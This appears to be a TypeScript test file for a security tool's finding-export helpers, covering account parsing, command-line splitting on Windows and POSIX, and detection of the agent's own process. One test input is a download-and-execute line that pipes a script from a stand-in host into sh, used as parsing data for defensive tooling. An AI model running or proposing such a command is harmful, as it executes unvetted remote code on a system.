// The facts every export reads off a finding: accounts split into name, id and domain; command
// lines split into arguments the way each platform quotes them; the agent's own process.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { accountOf, agentProcess, commandArgs } from '../../src/sinks/finding-parts.ts';
import { fullChain } from '../support/findings.ts';

describe('finding parts', () => {
  it('splits accounts: DOMAIN\\\\name, a bare name, a numeric uid, a SID', () => {
    assert.deepEqual(accountOf({ user: 'CORP\\jdoe' }), { name: 'jdoe', domain: 'CORP' });
    assert.deepEqual(accountOf({ user: 'alice' }), { name: 'alice' });
    assert.deepEqual(accountOf({ user: '1001', userId: '1001' }), { uid: '1001' });
    assert.deepEqual(accountOf({ user: 'S-1-5-18' }), { uid: 'S-1-5-18' });
    assert.equal(accountOf({}), undefined);
  });

  it('splits Windows command lines: quotes group, backslashes are path separators', () => {
    assert.deepEqual(commandArgs('"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service', true), [
      'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe',
      '--service',
    ]);
    assert.deepEqual(commandArgs('cmd.exe /c "echo a b"  x', true), ['cmd.exe', '/c', 'echo a b', 'x']);
  });

  it('splits POSIX command lines: single and double quotes, backslash escapes, empty arguments', () => {
    assert.deepEqual(commandArgs(`sh -c 'curl -fsSL http://x/u.sh | sh'`, false), [
      'sh',
      '-c',
      'curl -fsSL http://x/u.sh | sh',
    ]);
    assert.deepEqual(commandArgs('a "b \\" c" d\\ e ""', false), ['a', 'b " c', 'd e', '']);
  });

  it('keeps an unquoted image path with spaces whole (argv joined by the sensor)', () => {
    const image = '/Users/alice/Library/Application Support/.syncd/syncd';
    assert.deepEqual(commandArgs(`${image} --headless`, false, image), [image, '--headless']);
  });

  it("finds the agent's own process: one of its images, with a pid or guid", () => {
    const f = fullChain();
    assert.equal(agentProcess(f), undefined, 'the summary-only fixture names no process');
    f.steps[2].evidence[0].process = { image: f.agent.images[1], pid: 2208 };
    assert.equal(agentProcess(f)?.pid, 2208);
    f.steps[0].evidence[0].process = { image: f.agent.images[0].toUpperCase(), pid: 7312 };
    assert.equal(agentProcess(f)?.pid, 7312, 'an execution record wins, image compared without case');
  });
});
